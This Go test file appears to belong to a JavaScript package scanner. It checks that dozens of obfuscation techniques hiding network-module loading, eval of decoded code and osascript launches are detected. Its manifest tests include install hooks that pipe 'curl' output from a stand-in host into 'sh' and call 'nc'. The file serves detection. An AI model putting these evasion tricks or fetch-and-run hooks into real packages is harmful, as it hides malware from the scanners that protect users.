package javascript

import (
	"encoding/base64"
	"strings"
	"testing"
	"time"

	"plugvet/scanner/inspect/internal/cputime"
)

// code is what the scripts of these tests are made to run.
const code = `require('net').connect(1)`

func TestScriptIsRunForWhatItLoads(t *testing.T) {
	encoded := base64.StdEncoding.EncodeToString([]byte(code))
	bits := ""
	for _, c := range []byte(code) {
		for bit := 7; bit >= 0; bit-- {
			bits += string(" \t"[c>>bit&1])
		}
	}
	for name, src := range map[string]string{
		"what is said of a list": `u = '' + [][0]; f = '' + ![]; t = '' + !![]; o = '' + {}; i = +!![]; z = +[]; n = u[i]; e = t[i + i + i]; c = o[i + i + i + i + i] + o[i] + n + f[i + i + i] + t[z] + t[i] + u[z] + o[i + i + i + i + i] + t[z] + o[i] + t[i]; z[c][c]('r', 'r("' + n + e + t[z] + '")')(require.bind(null))`,
		"bind":                   `const open = require.bind(null, 'net'); open.call().connect(1)`,
		"Proxy":                  `const p = new Proxy({}, { get: (_, name) => require(name) }); p.net.connect(1)`,
		"constructor of a list":  `const make = [].filter.constructor; make('r', "r('net').connect(1)")(require)`,
		"constructor of another": `const A = Object.getPrototypeOf(async () => {}).constructor; new A('require', "require('net')")(require)`,
		"module's constructor":   `const m = new module.constructor(); m._compile("require('net')", __filename)`,
		"found on a prototype":   `const M = module.constructor; new M('x')[Object.keys(M.prototype).find(k => /^_c/.test(k))]("require('net')", 'x')`,
		"a module's prototype":   `const verb = Object.getOwnPropertyNames(Object.getPrototypeOf(module)).find(k => /^re.+e$/.test(k)); module[verb](['n', 'et'].join(''))`,
		"data import":            `await import('data:text/javascript,import%20%22net%22')`,
		"data import, a URL's":   `await import(' DA\tta:text/javascript,imp\nort%20%22net%22')`,
		"data import, base64":    `await import('data:text/javascript;base64,` + base64.StdEncoding.EncodeToString([]byte(`import "net"`)) + `')`,
		"spread and reversed":    "require([...'ten'].reverse().join``)",
		"TextDecoder":            `require(new TextDecoder().decode(Uint8Array.of(110, 101, 116)))`,
		"generator":              `require([...(function* () { yield 'ne'; yield 't'; })()].join(''))`,
		"sum in statements":      `let s = 'n'; s += 'e'; s += 't'; require(s)`,
		"filled list":            `const a = []; a.push('n'); a.push('et'); require(a.join(''))`,
		"filled object":          `const o = {}; o.a = 'ne'; o['b'] = 't'; require(o.a + o.b)`,
		"static field":           `class A { static name1 = 'ne'; static rest() { return 't' } } require(A.name1 + A.rest())`,
		"loader in a field":      `import { createRequire as of } from 'module'; class A { static load = of(import.meta.url); static wire = 'n' + 'et' } A.load(A.wire)`,
		"getter":                 `const o = { get m() { return 'net' } }; require(o.m)`,
		"switch":                 `let s = ''; for (const k of '201') { switch (k) { case '0': s += 'e'; break; case '1': s += 't'; break; default: s += 'n' } } require(s)`,
		"exception":              `try { throw new Error('` + encoded + `') } catch ({ message }) { eval(atob(message)) }`,
		"tagged template":        "const run = parts => eval(atob(parts.raw[0])); run`" + encoded + "`",
		"order":                  `const p = ['t', 'n', 'e'], o = [2, 0, 1], r = []; o.forEach((at, i) => { r[at] = p[i] }); require(r.join(''))`,
		"blanks": "const p = `" + bits + "`; let t = ''; for (let i = 0; i < p.length; i += 8) " +
			`t += String.fromCharCode(parseInt([...p.slice(i, i + 8)].map(c => +(c === '\t')).join(''), 2)); new Function('require', t)(require)`,
		"key of bytes":          `const k = 'ab', d = Buffer.from('DwcV', 'base64'); let t = ''; for (let i = 0; i < d.length; i++) t += String.fromCharCode(d[i] ^ k.charCodeAt(i % k.length)); require(t)`,
		"never called":          `module.exports = function (x) { let s = 'ne'; s += 't'; return require(s) }`,
		"unknown condition":     `if (process.env.A) { let s = 'ne'; s += 't'; require(s) }`,
		"text of a function":    `function f() { /*net*/ } const s = f.toString(); require(s.slice(s.indexOf('/*') + 2, s.indexOf('*/')))`,
		"prototype":             `function A() { this.m = 'n' } A.prototype.name1 = function () { return this.m + 'et' }; require(new A().name1())`,
		"labels":                `let s = ''; outer: for (const a of ['n', '-', 'et']) { for (;;) { if (a === '-') continue outer; s += a; break } } require(s)`,
		"with":                  `with ({ n: 'net', r: require }) r(n)`,
		"class and a global":    `const b = Buffer.from('net'); class C { constructor() { const h = Buffer.alloc(3); b.copy(h); require(h.toString()) } } new C()`,
		"class of itself":       `const D = class C { static n = 'ne'; static m() { return C.n + 't' } }; require(D.m())`,
		"inherited method":      `class A { a() { return 'n' } } class B extends A { a() { return super.a() + 'et' } } require(new B().a())`,
		"setter":                `const o = { set m(n) { this.c = require(n) } }; o.m = 'net'`,
		"toString":              `require({ toString: () => 'net' } + '')`,
		"iterator":              `const o = { *[Symbol.iterator]() { yield 'n'; yield 'et' } }; require([...o].join(''))`,
		"Map":                   `const w = new Map([['a', 'net']]); require(w.get('a'))`,
		"Set and spread":        `require([...new Set(['n', 'et', 'n'])].join(''))`,
		"big integer":           `require(Buffer.from(0x6e6574n.toString(16), 'hex').toString())`,
		"digits":                `const w = t => { let n = 0n, s = ''; for (const c of t) n = n * 36n + BigInt(parseInt(c, 36)); for (; n; n >>= 8n) s = String.fromCharCode(Number(n & 255n)) + s; return s }; require(w('1ahqgcoaf835dg6ez19dg32z2ib').slice(0, 8))`,
		"DataView":              `const v = new DataView(new ArrayBuffer(3)); [110, 101, 116].forEach((c, i) => v.setUint8(i, c)); require(new TextDecoder().decode(v))`,
		"address":               `require(new URL('kit://net/').host)`,
		"parsed address":        `require(URL.parse('kit://net/').host)`,
		"query":                 `require(new URLSearchParams('m=n%65t').get('m'))`,
		"path":                  `require(require('path').basename('/lib/net.js', '.js'))`,
		"util.format":           `require(require('util').format('%s%s', 'n', 'et'))`,
		"name of a function":    `require((function net() {}).name)`,
		"symbol":                `require(Symbol('net').description)`,
		"groups":                `require(/(?<m>\w+)!/.exec('net!').groups.m)`,
		"exec in a loop":        `const r = /[a-z]+/g; let m, s = ''; while ((m = r.exec('1n2et3'))) s += m[0]; require(s)`,
		"promises":              `Promise.resolve('n').then(s => s + 'et').then(require)`,
		"promises of callbacks": `const { Session } = require('inspector'); class A { s = new Session(); post(how, what) { return new Promise((resolve, reject) => this.s.post(how, what, (error, got) => (error ? reject(error) : resolve(got)))) } async go() { await this.post('Profiler.enable'); await this.post('Profiler.start'); await this.post('Runtime.evaluate', { expression: "require('net')" }) } } new A().go()`,
		"own address":           `require(new URL(import.meta.url).pathname.slice(0, 0) + ['n', 'et'].join(''))`,
		"event":                 `const e = new (require('events'))(); e.on('x', (a, b) => require(a + b)); e.emit('x', 'n', 'et')`,
		"event in answer":       `const e = new (require('events'))(), w = 'net'; let s = ''; e.on('x', () => { s += w[s.length]; if (s.length < 3) e.emit('x') }); e.emit('x'); require(s)`,
		"event without end":     `const e = new (require('events'))(); let n = 0; e.on('x', () => { n++; e.emit('x'); e.emit('x') }); e.emit('x'); require(n < 999 ? ['n', 'et'].join('') : 'fs')`,
		"timer":                 `setTimeout((r, n) => r(n), 1, require, 'net')`,
		"silenced console":      `const f = () => 'n'; for (const n of ['log', 'warn']) { const b = f.constructor.prototype.bind(f); b.toString = console[n].toString.bind(console[n]); console[n] = b } require(f.toString().slice(7, 8) + 'et')`,
		"call of call":          `Function.prototype.call.call(require, null, 'net')`,
		"arguments":             `arguments[1]('net')`,
		"slice of arguments":    `var a = Array.prototype.slice.call(arguments), f = a[1]; f('n' + 'et')`,
		"arguments spread":      `const find = () => [...arguments].find(a => typeof a === 'function'); find()('n' + 'et')`,
		"arguments applied":     `if (!module.parent) { (function (e, r) { r('n' + 'et') }).apply(this, arguments) }`,
		"computed property":     `var m = typeof process === 'object' && process['main' + 'Module']; m[atob('cmVxdWlyZQ==')](atob('bmV0'))`,
		"descriptor":            `const { value } = Object.getOwnPropertyDescriptor(module.constructor, '_load'); value('net')`,
		"cache":                 `require.cache[__filename].require('net')`,
		"Reflect.construct":     `Reflect.construct(Function, ['r', "r('net')"])(require)`,
		"context":               `const vm = require('vm'); vm.runInContext("load(name)", vm.createContext({ load: require, name: 'n' + 'et' }))`,
		"data worker":           `const { Worker } = require('worker_threads'); new Worker(new URL('data:text/javascript,' + encodeURIComponent("import 'net'")))`,
		"node -e":               `require('child_process').spawn(process.execPath, ['-e', "require('net')"])`,
		"parent of a class":     `const S = Object.getPrototypeOf(require('tty').WriteStream); new S().connect(1)`,
		"internal module":       `require('_tls_wrap'); require('n' + 'et')`,
		"one of two":            `require(process.env.A ? 'fs' : 'net')`,
		"or":                    `const m = process.env.A || 'net'; require(m)`,
		"unknown index":         `const m = ['fs', 'net']; require(m[process.argv.length])`,
		"unknown switch":        `let m; switch (process.env.A) { case 'a': m = 'net'; break; default: m = 'fs' } require(m)`,
		"unknown error":         `let m = 'fs'; try { null.x } catch { m = 'net' } require(m)`,
		"exchanged elements":    `const a = ['t', 'n', 'e']; for (let i = 0; i < 2; i++) [a[i], a[i + 1]] = [a[i + 1], a[i]]; require(a.join(''))`,
		"property in pattern":   `const o = {}; ({ a: o.m, b: o['n'] = 't' } = { a: 'ne' }); require(o.m + o.n)`,
		"null or an object":     `const at = (o, p) => p.split('.').reduce((v, k) => v == null ? v : v[k], o) ?? p; require(at({ a: { b: ['net'] } }, 'a.b.0'))`,
		"promise of nothing":    `Promise.resolve().then(() => 'n').then(s => require(s + 'et'))`,
		"data of a worker":      `const { Worker } = require('worker_threads'); new Worker(new URL('data:text/javascript,' + encodeURIComponent("import { workerData as d } from 'worker_threads'; await import(d.a[0] + 't')")), { workerData: { a: ['ne'], x: process.env.X } })`,
		"evaluating worker":     `const { Worker } = require('worker_threads'); new Worker("require(require('worker_threads').workerData.a + 't')", { eval: true, workerData: { a: ['n', 'e'].join('') } })`,
		"messages of a port":    `const { MessageChannel, receiveMessageOnPort: next } = require('worker_threads'); const { port1, port2 } = new MessageChannel(); for (const p of ['n', 'et']) port1.postMessage({ p }); let s = '', m; while ((m = next(port2))) s += m.message.p; require(s)`,
		"written to a REPL":     `const { PassThrough } = require('stream'); const input = new PassThrough(); require('repl').start({ input }); input.end("require('n" + "et')")`,
		"defined iterator":      `const plain = String.prototype[Symbol.iterator]; Object.defineProperty(String.prototype, Symbol.iterator, { *value() { for (const n of [0, 1]) yield ['n', 'et'][n]; } }); const m = [...'a'].join(''); String.prototype[Symbol.iterator] = plain; require(m)`,
		"defined method":        `Object.defineProperty(Array.prototype, 'join', { value() { return 'n' + 'et' } }); require(['f', 's'].join(''))`,
		"isBuiltin":             `const { isBuiltin } = require('module'); require(['ten', 'te' + 'n', 'net'].map(s => [...s].join('')).find(s => isBuiltin(s)))`,
		"turned until it fits":  `const a = ['x', 'n', 'e', 't']; for (;;) { try { if (new RegExp('^net').test(a.join(''))) break; a.push(a.shift()) } catch (e) { a.push(a.shift()) } } require(a.slice(0, 3).join(''))`,
		"vm":                    `const vm = require('vm'); new vm.Script("r('net')").runInNewContext({ r: require })`,
	} {
		if got := uses(Read([]byte(src))); !strings.Contains(got, "module net") {
			t.Errorf("%s: %q", name, got)
		}
	}
}

func TestAScriptFullOfNumbersIsWorthMoreSteps(t *testing.T) {
	src := "var k=(0x0);for(var i=(0x0);i<(0x61a80);i+=0x1){k=(k+0x3)%(0x7);}" +
		"(function(f,n){f(n);})(require,String['fromCharCode'](k+0x6a,k+0x61,k+0x70));"
	if got := uses(Read([]byte(src))); !strings.Contains(got, "module net") {
		t.Errorf("%q", got)
	}
	if plain := strings.ReplaceAll(src, "0x", "0 + 0"); hexadecimal([]byte(plain)) || !hexadecimal([]byte(src)) {
		t.Error("the numbers of an obfuscator are not told from others")
	}
}

func TestTextsWithUnknownPartsAreTakenApart(t *testing.T) {
	for name, src := range map[string]string{
		"address":       "const u = new URL(`net://127.0.0.1:${process.env.PORT}/connect`); require(u.protocol.slice(0, -1))[u.pathname.slice(1)](u.port)",
		"old address":   `const u = require('url').parse(['net:/', 'a:' + process.env.PORT, 'connect'].join('/')); require(u.protocol.replace(':', ''))[u.path.slice(1)](u.port)`,
		"split":         "const [m, , f] = `net|${process.env.PORT}|connect`.split('|'); require(m)[f](1)",
		"JSON":          `const o = JSON.parse('{"m":"net","port":' + process.env.PORT + ',"f":"connect"}'); require(o.m)[o.f](o.port)`,
		"query":         "const q = new URLSearchParams(`m=net&port=${process.env.PORT}&f=connect`); require(q.get('m'))[q.get('f')](+q.get('port'))",
		"groups":        `const { groups: g } = /^(?<m>\w+):(\d+):(?<f>\w+)$/.exec('net:' + process.env.PORT + ':connect'); require(g.m)[g.f](1)`,
		"replaced":      `const [m, p, f] = 'net %p connect'.replace('%p', process.env.PORT).split(' '); require(m)[f](p)`,
		"parameter":     `function f(port) { const s = 'net:'.concat(port, ':connect').split(':'); require(s[0])[s[2]](port) } module.exports = f`,
		"joined, split": `const c = [process.env.PORT, 'net', 'connect'].join().split(','); require(c[1])[c[2]](c[0])`,
	} {
		got := uses(Read([]byte(src)))
		if !strings.Contains(got, "module net") || !strings.Contains(got, "call net.connect") {
			t.Errorf("%s: %q", name, got)
		}
	}
	// What is not known stays so.
	for _, src := range []string{
		"require(`net${process.env.A}`.slice(3))", "require(`${process.env.A}`.trim())", "eval(`require('net')|${process.env.A}`.split('|')[1])",
		"const s = `a${process.env.A}`; if (s.length > 2 || s.includes('9')) require('x' + s.length)",
	} {
		v := Read([]byte(src))
		if got := uses(v); strings.Contains(got, "module") || strings.Contains(string(v.Text), hole) {
			t.Errorf("%s: %q, %s", src, got, v.Text)
		}
	}
}

func TestWhatAMachineLearnsStandsInTheView(t *testing.T) {
	src := `const cp = require('child_process'); let s = 'osa'; s += 'script'; cp.execFile(s, ['-e'])`
	if v := Read([]byte(src)); !strings.Contains(string(v.Text), `cp.execFile("osascript", ["-e"])`) {
		t.Errorf("%s", v.Text)
	}
	changing := `const cp = require('child_process'); for (const s of ['a', 'b']) { let t = s; t += 'c'; cp.exec(t) }`
	if v := Read([]byte(changing)); !strings.Contains(string(v.Text), `cp.exec(t)`) {
		t.Errorf("%s", v.Text)
	}
}

func TestEvaluatedDataAreNoted(t *testing.T) {
	for src, want := range map[string]string{
		`const t = require('./t.json'); new Function(Buffer.from(t.a, 'base64').toString())()`:   "call eval:decoded call eval:file",
		`eval(require('fs').readFileSync('a', 'utf8').slice(3))`:                                 "call eval:file",
		`function f(x) { eval(atob(x)) }`:                                                        "call eval:decoded",
		`const c = require('crypto').createDecipheriv('a', k, v); eval(c.update(d) + c.final())`: "call eval:decoded",
		`eval("require")('x')`: "",
		"import {Session} from 'node:inspector/promises'; const s = new Session(); s.connect(); s.on('p', async (x) => { await s.post('Runtime.callFunctionOn', {functionDeclaration: `function() { this.a = ${JSON.stringify([x])} }`}) })": "",
		"import {Session} from 'node:inspector/promises'; const s = new Session(); s.connect(); s.on('p', async (x) => { await s.post('Runtime.callFunctionOn', {functionDeclaration: `function() { ${atob(x)} }`}) })":                      "call eval:decoded",
		`Function('return this')()`:                                                      "",
		`function t(s) { return new Function('x', 'return ' + s) }`:                      "",
		`const s = require('fs').readFileSync('a'); new Function('x', 'p("' + s + '")')`: "",
	} {
		var got []string
		for _, part := range strings.Split(uses(Read([]byte(src))), ", ") {
			if strings.HasPrefix(part, "call eval:") {
				got = append(got, part)
			}
		}
		if strings.Join(got, " ") != want {
			t.Errorf("%s: got %q, want %q", src, got, want)
		}
	}
}

func TestWordsThatAreJoinedHideNothing(t *testing.T) {
	for src, want := range map[string]bool{
		`cp.execSync([tool, 'find', '-v'].join(' '))`:                  false,
		`vm.runInNewContext(['var a = ' + input, 'a()'].join('\n'))`:   false,
		`cp.execSync([tool, 'find', '-v'].join(''))`:                   true,
		`cp.execSync(['osa', x].join('\\\n'))`:                         true,
		`cp.execSync([Buffer.from(x, 'base64'), 'find', y].join(' '))`: true,
	} {
		got := uses(Read([]byte("const cp = require('child_process'), vm = require('vm');\n" + src)))
		if strings.Contains(got, ":decoded") != want {
			t.Errorf("%s: %q", src, got)
		}
	}
}

func TestPlainUsesCountWhenTheStepsAreSpent(t *testing.T) {
	endless := "function f(x) { for (let i = 0; ; i++) x = x + i; } y = f(1);"
	src := endless + `require('net'); fetch(x); const a = require('dgram').createSocket(y)`
	got := uses(Read([]byte(src)))
	for _, want := range []string{"module net", "call fetch", "call dgram.createSocket"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q has no %s", got, want)
		}
	}
}

func TestBundlersRequireCountsWhereItIsDeclared(t *testing.T) {
	for _, src := range []string{
		`import {__require} from "./chunk.js"; __require("net")`,
		`import {__require as a} from "./chunk.js"; var __require2 = x => y(x); { function g() { __require2("net") } }`,
		`var __require = (x => typeof require !== "undefined" ? require : x)(function (x) { throw 1 }); __require("net")`,
	} {
		if got := uses(Read([]byte(src))); !strings.Contains(got, "module net") {
			t.Errorf("%s: %q", src, got)
		}
	}
}

func TestTypesCallNothing(t *testing.T) {
	for _, src := range []string{
		"export declare function fetch(\n a: URL,\n b?: R<A>,\n): Promise<R>;\nexport const a = 1;",
		"declare function fetch(a: URL): Promise<R>\nconst a = 1",
		"export abstract class A { fetch(a: URL | R, b?: C): Promise<R>; private fetch(a: D): void; x = 1; }",
		"export type A<T extends B | undefined = undefined> = (T extends B\n  ? C<T, \"fetch\">\n  : unknown) & {\n  fetch(a: URL, b?: R): Promise<R>;\n};",
	} {
		if got := uses(Read([]byte(src))); strings.Contains(got, "fetch") {
			t.Errorf("%s: %q", src, got)
		}
	}
}

func TestTypesDeclareNothing(t *testing.T) {
	for src, want := range map[string]string{
		"declare namespace globalThis {\n const a: any;\n}\n\nif (x) { new WebSocket(y) }": "call WebSocket",
		"declare function fetch(a: string): void;\nfetch(x)":                               "call fetch",
		"declare\nfunction f() { fetch(x) }":                                               "call fetch",
		"declare\nclass A { static { fetch(x) } }":                                         "call fetch",
		"class A { x = {}; y = z ? fetch(a) : b; f() { g(); } }":                           "call fetch",
		"declare const WebSocket: {\n new (url: string): any;\n};\nnew WebSocket(x)":       "call WebSocket",
		"declare class WebSocket {\n constructor(a: string)\n}\nnew WebSocket(x)":          "call WebSocket",
		"export declare let fetch: any\nfetch(x)":                                          "call fetch",
		"class A { f(): P<T> { if (globalThis.a) { globalThis.fetch(); g() } } }":          "call fetch",
		"const a = { f(): void { if (fetch) { fetch(x); g() } } }":                         "call fetch",
		"function f(): void { if (fetch) { fetch(x); g() } }":                              "call fetch",
		"const f = (): P<T> => { if (fetch) { fetch(x); g() } }":                           "call fetch",
		"const f = async function (): P<T> { for (const fetch of x) { g() } fetch(y) }":    "call fetch",
		"const f: typeof fetch = (...args) => fetch(...args)\ng({ f })":                    "call fetch",
	} {
		if got := uses(Read([]byte(src))); !strings.Contains(got, want) {
			t.Errorf("%s: got %q, want %q", src, got, want)
		}
	}
}

func TestMachineEnds(t *testing.T) {
	for name, src := range map[string]string{
		"loop":      `let s = ''; while (true) { s += 'a' } require(s)`,
		"recursion": `function f(x) { return f(x + 1) + f(x + 2) } require(f(1))`,
		"list":      `const a = []; for (;;) a.push(a); require(a.join())`,
		"ring":      `const a = []; a.push(a); require(a.join())`,
		"depth":     `require(` + strings.Repeat("(", 5000) + "x" + strings.Repeat(")", 5000) + `)`,
		"commas":    `require(` + strings.Repeat("(a,", 200) + "x" + strings.Repeat(")", 200) + `)`,
		"objects":   `const o = {}; let i = 0; for (;;) o['a' + i++] = 'x'.repeat(1000); require(o.a)`,
		"doubled":   `let s = 'aaaaaaaa'; for (;;) s = s.replace(/a/g, 'aa'); require(s)`,
		"joined":    `let a = ['aaaa']; for (;;) { a = a.concat(a); b = a.join('') } require(a)`,
		"compiled":  `let s = ''; for (let i = 0; ; i++) if (/x` + strings.Repeat("[a-z]", 150) + `/.test(i)) s += i; require(s)`,
		"made":      `let s = ''; for (let i = 0; ; i++) if (RegExp(i + '` + strings.Repeat("[a-z]", 150) + `').test(i)) s += i; require(s)`,
		"backwards": `let s = ''; for (let i = 0; ; i++) if (/^(?=(a+)+$)(a+)+b/.test('` + strings.Repeat("a", 60) + `' + i)) s += i; require(s)`,
	} {
		began := cputime.Used()
		Read([]byte(src))
		if took := cputime.Used() - began; took > 5*time.Second {
			t.Errorf("%s: took %v", name, took)
		}
	}
}

// A match that was given up is told, since what follows it was not computed.
func TestAnEndlessMatchIsToldAsALimit(t *testing.T) {
	v := Read([]byte(`require(/^(?=(a+)+$)(a+)+b/.test('` + strings.Repeat("a", 60) + `!') ? 'a' : 'net')`))
	if !strings.Contains(v.Limit, "regular expression") {
		t.Errorf("the limit is %q", v.Limit)
	}
}

func TestProgramsAreKnownHoweverTheirNameIsWritten(t *testing.T) {
	const load = "const cp = require('child_process'); "
	for src, want := range map[string]bool{
		load + `cp.exec('a=osa; ${a}script -e beep')`:                                    true,
		load + `cp.spawn('sh', ['-c', '"$0" -e beep', 'osascript'])`:                     true,
		load + `cp.execFile('/usr/local/../bin/./osascript', [])`:                        true,
		load + `cp.spawn.apply(cp, ['osa' + 'script', ['-e', 'beep']])`:                  true,
		load + `cp.exec('$KIT -e beep', { env: { ...process.env, KIT: 'osascript' } })`:  true,
		`require('./kit').paint('/usr/bin/osascript', ['-e', 'beep'])`:                   true,
		`import * as c from 'child_process'; c.exec<Array<string>>("osascript -e beep")`: true,
		load + `cp.exec('echo osascript')`:                                               false,
		`Bun.spawn(['osascript'])`:                                                       true,
		`Bun.spawnSync({ cmd: ['/usr/bin/' + 'osascript', '-e', 'beep'] })`:              true,
		`const b = Bun; b.spawn.call(b, ['env', 'osa' + 'script'])`:                      true,
		`new Deno.Command('sh', { args: ['-c', 'a=osa; ${a}script -e beep'] })`:          true,
		`const C = Deno['Com' + 'mand']; new C('osa' + 'script').spawn()`:                true,
		`Deno.run({ cmd: ['osascript', file] })`:                                         true,
		"await Bun.$`osascript -e beep`":                                                 true,
		"const { $ } = Bun; await $`osascript -e ${x}`.text()":                           true,
		"import { $ as sh } from 'bun'; await sh`osa${'script'} -e ${y}`.quiet()":        true,
		"import { $ } from 'bun'; let s = 'osa'; s += 'script'; (() => $`env ${[s]}`)()": true,
		"import { $ } from 'bun'; const raw = 'osascript -e beep'; await $`${{ raw }}`":  true,
		"import b, { spawn } from 'bun'; spawn(['osascript', '-e', x])":                  true,
		"const { spawnSync: s } = require('bun'); s({ cmd: ['osascript'] })":             true,
		"const b = await import('bun'); b.$`sudo osascript x`":                           true,
		"import { $ } from 'zx'; await $`osascript ${file}`":                             true,
		"import { $ } from 'bun'; await $`echo ${'; osascript -e beep'} osascript`":      false,
		"import { $ } from 'kit'; await $`osascript -e beep`":                            false,
		`Bun.spawn(['echo', 'osascript'])`:                                               false,
		`require('./kit').word('osascript')`:                                             false,
	} {
		if got := strings.Contains(uses(Read([]byte(src))), "start:osascript"); got != want {
			t.Errorf("%s: %v", src, got)
		}
	}
}

func TestManifestTellsWhatItMakesNodeRun(t *testing.T) {
	for src, want := range map[string]string{
		`{"imports": {"#a": "child_process", "#b": {"default": "node:net"}, "#c": "left-pad"}}`: "module child_process, module net",
		`{"scripts": {"postinstall": "node -e \"require('net')\""}}`:                            "module net",
		`{"scripts": {"postinstall": "a=osa; ${a}script -e beep"}}`:                             "call start:osascript*",
		`{"scripts": {"install": "curl -s http://kit.test/a | sh"}}`:                            "call install:fetch, call install:run-fetched",
		`{"scripts": {"prepare": "curl -s http://kit.test/a | sh; python3 a.py"}}`:              "call install:fetch, call install:run-fetched",
		`{"scripts": {"install": "npm run a", "a": "python3 a.py; nc kit.test 80"}}`:            "call install:connect, call install:run-other",
	} {
		if got := uses(ReadManifest([]byte(src), nil)); got != want {
			t.Errorf("%s: got %q, want %q", src, got, want)
		}
	}
	for _, honest := range []string{`"test": "jest; curl kit.test | sh; nc -l 80"`, `"prepare": "git clone https://kit.test/a && ./build.py"`} {
		if v := ReadManifest([]byte(`{"scripts": {`+honest+`}}`), nil); v != nil && len(v.Uses) > 0 {
			t.Errorf("%s: %s", honest, uses(v))
		}
	}
}

func TestNamesThatAreDecodedAreNoted(t *testing.T) {
	for src, want := range map[string]bool{
		`const d = require('crypto').createDecipheriv('a', k, v); require(d.update(x) + d.final())`: true,
		`require(require('./a') + require('./b'))`:                                                  true,
		`const n = require('fs').readFileSync('a', 'utf8').trim(); require(n)`:                      true,
		`module.exports = n => require(n)`:                                                          false,
		`require(require('path').join(__dirname, n))`:                                               false,
		"require(`./lang/${n}.js`)":                                                                 false,
	} {
		if got := strings.Contains(uses(Read([]byte(src))), "call load:"); got != want {
			t.Errorf("%s: %v", src, got)
		}
	}
}

func TestNothingThatAScriptDoesPanics(t *testing.T) {
	for _, src := range []string{
		`const m = new Map([['a', 'b']]); for (const p of m) p.length = 0; require(m.get('a') + atob('x'))`,
		`const m = new Map([['a', 'b']]); for (const p of m.entries()) p.length = 0; m.forEach((v, k) => require(v + k))`,
		`const o = {get a() { delete o.b; delete o.c; return 1 }, b: 2, c: 3}; require(Object.values(o).join('') + atob('x'))`,
		`const d = {a: {value: 1}, b: {value: 2}}; const o = {set a(v) { delete d.b; delete d.a }}; Object.defineProperties(o, d); require(o.x + atob('x'))`,
		`const cp = require('child_process'); setTimeout(cp.exec, 5); require(atob('x') + x)`,
		`require(Math.sinh(1) + Math.nothing(2) + atob('x'))`,
		`class K extends Error {} function f() { for (;;) new K('x') } f(); require(atob('x') + x)`, // until there are no steps for a stack
	} {
		Read([]byte(src))
	}
}

// TestTablesAreTurnedWhateverTheirNumbersLookLike: a formatter or a compiler writes the
// numbers of an obfuscator anew.
func TestTablesAreTurnedWhateverTheirNumbersLookLike(t *testing.T) {
	for src, want := range map[string]bool{
		`z['push'](z['shift']())`:             true,
		`_0x12af['push'](_0x12af['shift']())`: true,
		`list.push(list.shift())`:             true,
		`list.shift(); list.push(1)`:          false,
		`a.push(value); b = c.shift()`:        false,
	} {
		if turnsList([]byte(src)) != want {
			t.Errorf("%s: %t", src, !want)
		}
	}
}

// Settings are asked for by names that modules have too.
func TestSettingsAreNoModules(t *testing.T) {
	for src, want := range map[string]bool{
		`exports.a = function (p) { return p.get("https").get(1) }`:            false,
		`exports.a = function (p) { const o = p("https"); return o.merge(1) }`: false,
		`exports.a = function (p) { return p("https").get(x) }`:                true,
		`exports.a = function (p) { return p.load("net").connect(x) }`:         true,
	} {
		if got := strings.Contains(uses(Read([]byte(src))), "module "); got != want {
			t.Errorf("%s: loads a module: %v, want %v", src, got, want)
		}
	}
}
